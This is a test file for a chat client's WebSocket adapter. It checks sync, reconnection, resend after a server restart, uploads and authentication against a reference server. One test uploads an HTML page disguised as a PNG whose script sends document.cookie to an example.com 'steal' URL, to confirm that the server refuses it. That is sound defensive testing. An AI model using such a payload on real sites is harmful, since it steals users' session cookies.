import { expect, waitUntil } from '@open-wc/testing';
import { executeServerCommand } from '@web/test-runner-commands';
import { createWebSocketAdapter, type WebSocketAdapterOptions } from '../../src/adapters/websocket.js';
import { ConvError } from '../../src/core/errors.js';
import { createFileTypePolicy } from '../../src/core/file-policy.js';
import type { Conversation, Message } from '../../src/core/model.js';
import { createConversationStore, type ConversationStore, type ConversationStoreOptions } from '../../src/core/store.js';
import { bytes, png } from '../fixtures/files.js';

const NAME = 'websocket-adapter';
const AGENT_TOKEN = 'demo-token-agent-1';
const COLLEAGUE_TOKEN = 'demo-token-agent-2';
let server = '';

const serverCommand = async <T = unknown>(action: string, options: Record<string, unknown> = {}) => (await executeServerCommand('conv-server', { action, name: NAME, ...options })) as T;

before(async () => {
  ({ url: server } = await serverCommand<{ url: string }>('start'));
});
after(async () => {
  await serverCommand('stop');
});

const stores: ConversationStore[] = [];
afterEach(() => {
  for (const store of stores.splice(0)) store.disconnect();
});

function adapterFor(token: string, options: Partial<WebSocketAdapterOptions> = {}) {
  return createWebSocketAdapter({ url: `${server}/ws`, token, reconnectMinMs: 100, reconnectMaxMs: 1000, ...options });
}

async function storeOf(token = AGENT_TOKEN, adapterOptions: Partial<WebSocketAdapterOptions> = {}, storeOptions: Partial<ConversationStoreOptions> = {}): Promise<ConversationStore> {
  const store = createConversationStore({ adapter: adapterFor(token, adapterOptions), fileTypePolicy: createFileTypePolicy(), retryBaseMs: 50, retryMaxMs: 400, requestTimeoutMs: 5000, ...storeOptions });
  stores.push(store);
  await store.connect();
  return store;
}

/** The reference server's demo controls. */
async function control<T>(path: string, body: unknown = {}): Promise<T> {
  const response = await fetch(`${server}/demo/${path}`, { method: 'POST', headers: { Authorization: `Bearer ${AGENT_TOKEN}`, 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
  if (!response.ok) throw new Error(`${path}: ${response.status} ${await response.text()}`);
  return response.json() as Promise<T>;
}
const newCustomer = async () => (await control<Conversation>('conversations')).id;
/** A new customer, once the stores show them in their Picklist. */
async function newCustomerIn(...shownIn: ConversationStore[]): Promise<string> {
  const id = await newCustomer();
  await waitUntil(() => shownIn.every((store) => ids(store.list('picklist')).includes(id)), 'the new customer shows in the Picklist');
  return id;
}
const customerSays = (id: string, text: string) => control<Message>(`conversations/${encodeURIComponent(id)}/messages`, { text });

/** What the server's database holds for a conversation, read from the file. */
const storedMessages = (conversationId: string) => serverCommand<Message[]>('messages', { conversationId });
const storedUploads = () => serverCommand<number>('uploads');

const ids = (list: readonly { id: string }[]) => list.map((conversation) => conversation.id);
const withText = (store: ConversationStore, id: string, text: string) => store.messages(id).items.filter((message) => message.text === text);

describe('WebSocket adapter with the reference server', () => {
  it('two stores on two connections of one agent stay in sync through a pick, a message, a note and an end', async () => {
    const [desktop, phone] = [await storeOf(), await storeOf()];
    const id = await newCustomerIn(desktop, phone);

    await desktop.pick(id);
    await waitUntil(() => ids(phone.list('conversations')).includes(id) && !ids(phone.list('picklist')).includes(id), 'the phone shows the pick');

    await phone.loadMessages(id);
    const clientId = await desktop.sendMessage(id, { text: 'Your parcel is at the depot.' });
    await waitUntil(() => phone.messages(id).items.some((message) => message.clientId === clientId && message.status === 'sent'), 'the phone shows the message');

    const note = await phone.addNote(id, 'Call back after 5 pm.');
    await waitUntil(() => desktop.notes(id).items.some((item) => item.id === note.id), 'the desktop shows the note');

    await phone.endChat(id);
    await waitUntil(() => desktop.conversation(id)?.status === 'ended' && ids(desktop.list('history')).includes(id), 'the desktop shows the end in History');

    expect(phone.messages(id).items.filter((message) => message.clientId === clientId)).to.have.length(1);
    expect(desktop.messages(id).items.filter((message) => message.clientId === clientId)).to.have.length(1);
    expect(phone.messages(id).items.some((message) => message.text.includes('Call back')), 'the note shown as a message').to.equal(false);
  });

  it('when two agents pick at the same moment, one gets the conversation and the other is told of the conflict and loses it from the Picklist', async () => {
    const [mine, colleague] = [await storeOf(), await storeOf(COLLEAGUE_TOKEN)];
    const id = await newCustomerIn(mine, colleague);
    const outcomes = await Promise.allSettled([mine.pick(id), colleague.pick(id)]);
    const [winner, loser] = outcomes[0].status === 'fulfilled' ? [mine, colleague] : [colleague, mine];
    const refusal = outcomes.find((outcome) => outcome.status === 'rejected') as PromiseRejectedResult;
    expect(outcomes.filter((outcome) => outcome.status === 'fulfilled'), 'picks that succeeded').to.have.length(1);
    expect(refusal.reason).to.be.instanceOf(ConvError);
    expect((refusal.reason as ConvError).code).to.equal('conflict');
    expect(ids(winner.list('conversations'))).to.include(id);
    await waitUntil(() => !ids(loser.list('picklist')).includes(id) && !ids(loser.list('conversations')).includes(id), "the other agent's lists no longer show it");
  });

  it('while the connection is down the store says so; back online, what the customer wrote meanwhile shows once', async () => {
    const store = await storeOf();
    const id = await newCustomerIn(store);
    await store.pick(id);
    await store.loadMessages(id);
    const states: string[] = [];
    store.on('connection', () => states.push(store.connection));
    await control('connections/drop');
    await customerSays(id, 'Hello? Are you still there?');
    await waitUntil(() => store.connection === 'online' && withText(store, id, 'Hello? Are you still there?').length > 0, 'the store is back with the message');
    expect(states).to.include('reconnecting');
    expect(withText(store, id, 'Hello? Are you still there?')).to.have.length(1);
  });

  it("when the server's log no longer reaches back, a new snapshot brings the store up to date", async () => {
    ({ url: server } = await serverCommand<{ url: string }>('restart', { eventLogSize: 3 }));
    try {
      const store = await storeOf(AGENT_TOKEN, { reconnectMinMs: 1500, reconnectMaxMs: 1500 });
      const id = await newCustomerIn(store);
      await store.pick(id);
      await store.loadMessages(id);
      await control('connections/drop');
      for (let line = 1; line <= 4; line++) await customerSays(id, `While you were away ${line}`);
      const waiting = await newCustomer();
      await waitUntil(() => store.connection === 'online' && withText(store, id, 'While you were away 4').length === 1, 'the store catches up', { timeout: 8000 });
      for (let line = 1; line <= 4; line++) expect(withText(store, id, `While you were away ${line}`), `line ${line}`).to.have.length(1);
      expect(ids(store.list('picklist'))).to.include(waiting);
      expect(store.conversation(id)?.lastMessage?.text).to.equal('While you were away 4');
    } finally {
      ({ url: server } = await serverCommand<{ url: string }>('restart', { eventLogSize: 0 }));
    }
  });

  it('killing and restarting the server mid-send loses nothing: the outbox resends and each message is stored exactly once', async function () {
    this.timeout(60_000);
    // Answers take 300 ms, so the server is killed with messages stored but not yet confirmed.
    ({ url: server } = await serverCommand<{ url: string }>('restart', { answerDelayMs: 300 }));
    try {
      const [desktop, phone] = [await storeOf(), await storeOf()];
      const id = await newCustomerIn(desktop, phone);
      await desktop.pick(id);
      await phone.loadMessages(id);
      const texts = Array.from({ length: 12 }, (_, index) => `Update ${index + 1} on your order`);
      const clientIds: string[] = [];
      for (const text of texts) clientIds.push(await desktop.sendMessage(id, { text }));

      const agentRows = async () => (await storedMessages(id)).filter((message) => message.author === 'agent');
      await waitUntil(async () => (await agentRows()).length >= 4, 'a few messages reach the database', { timeout: 10_000, interval: 20 });
      await serverCommand('stop');
      const storedAtKill = (await agentRows()).length;
      const confirmedAtKill = desktop.messages(id).items.filter((message) => message.author === 'agent' && message.status === 'sent').length;

      ({ url: server } = await serverCommand<{ url: string }>('restart', { answerDelayMs: 0 }));
      await waitUntil(() => clientIds.every((clientId) => desktop.messages(id).items.some((message) => message.clientId === clientId && message.status === 'sent')), 'every message is confirmed', { timeout: 30_000 });
      await waitUntil(() => texts.every((text) => withText(phone, id, text).length === 1), 'the phone shows every message', { timeout: 10_000 });

      const rows = await agentRows();
      expect(rows.map((message) => message.clientId).sort()).to.deep.equal([...clientIds].sort());
      expect(rows.map((message) => message.text)).to.deep.equal(texts);
      for (const text of texts) {
        expect(withText(desktop, id, text), `desktop: ${text}`).to.have.length(1);
        expect(withText(phone, id, text), `phone: ${text}`).to.have.length(1);
      }
      expect(storedAtKill, 'stored when the server was killed').to.be.greaterThan(confirmedAtKill);
      console.log(`restart mid-send: ${texts.length} messages; at the kill ${storedAtKill} were stored and ${confirmedAtKill} confirmed; after the restart ${rows.length} rows, each clientId once`);
    } finally {
      ({ url: server } = await serverCommand<{ url: string }>('restart', { answerDelayMs: 0 }));
    }
  });

  it('the server refuses a web page named .png that a modified client let through, and keeps nothing', async () => {
    // No file-type policy in this store: the client's check is skipped, as in a tampered client.
    const store = await storeOf(AGENT_TOKEN, {}, { fileTypePolicy: undefined });
    const id = await newCustomerIn(store);
    await store.pick(id);
    const uploadsBefore = await storedUploads();
    const page = new Blob(['<!doctype html><html><body><script>document.location="https://example.com/steal?"+document.cookie</script></body></html>'], { type: 'image/png' });
    const clientId = await store.sendMessage(id, { files: [{ blob: page, name: 'invoice.png', mimeType: 'image/png' }] });
    await waitUntil(() => store.messages(id).items.find((message) => message.clientId === clientId)?.status === 'failed', 'the message fails');
    expect(store.messages(id).items.find((message) => message.clientId === clientId)?.errorCode).to.equal('invalid');
    expect(await storedUploads()).to.equal(uploadsBefore);
    expect((await storedMessages(id)).some((message) => message.clientId === clientId)).to.equal(false);
  });

  it('a photo is uploaded, sent, and served back with the type found in its bytes', async () => {
    const store = await storeOf();
    const id = await newCustomerIn(store);
    await store.pick(id);
    const photo = new Blob([png(40, 30)], { type: 'image/png' });
    const progress: number[] = [];
    let clientId = '';
    store.on(`messages:${id}`, () => {
      const fraction = clientId ? store.uploadProgress(clientId) : undefined;
      if (fraction !== undefined) progress.push(fraction);
    });
    clientId = await store.sendMessage(id, { text: 'Here is the label', files: [{ blob: photo, name: 'label.png' }] });
    await waitUntil(() => store.messages(id).items.find((message) => message.clientId === clientId)?.status === 'sent', 'the photo is sent');
    const [attachment] = store.messages(id).items.find((message) => message.clientId === clientId)!.attachments;
    expect(attachment).to.include({ name: 'label.png', mimeType: 'image/png', size: photo.size, width: 40, height: 30 });
    expect(progress.at(-1), 'upload progress at the end').to.equal(1);
    expect(new URL(attachment!.url).origin).to.equal(new URL(server).origin);
    const served = await fetch(attachment!.url);
    expect(served.headers.get('content-type')).to.equal('image/png');
    expect(new Uint8Array(await served.arrayBuffer())).to.deep.equal(new Uint8Array(await photo.arrayBuffer()));
  });

  it('an upload cancelled before it finishes leaves nothing on the server', async () => {
    const adapter = adapterFor(AGENT_TOKEN);
    await adapter.connect(() => {});
    try {
      const id = await newCustomer();
      await adapter.pick(id);
      const uploadsBefore = await storedUploads();
      // A valid PNG header followed by 9 MB: still on its way when the agent cancels.
      const large = new Blob([png(2, 2).slice(0, 33), new Uint8Array(9 * 1024 * 1024), bytes('IEND')], { type: 'image/png' });
      const controller = new AbortController();
      const uploading = adapter.uploadAttachment(large, 'large.png', { conversationId: id, clientId: 'cancelled-upload', signal: controller.signal });
      setTimeout(() => controller.abort(), 1);
      const outcome = await uploading.then(
        () => 'uploaded',
        (error: Error) => error.name,
      );
      expect(outcome).to.equal('AbortError');
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(await storedUploads()).to.equal(uploadsBefore);
    } finally {
      adapter.disconnect();
    }
  });

  it('a token the server does not know is refused as forbidden', async () => {
    const store = createConversationStore({ adapter: adapterFor('not-a-real-token') });
    const refusal = await store.connect().then(
      () => undefined,
      (error: unknown) => error,
    );
    expect(refusal).to.be.instanceOf(ConvError);
    expect((refusal as ConvError).code).to.equal('forbidden');
    expect(store.connection).to.equal('offline');
  });
});
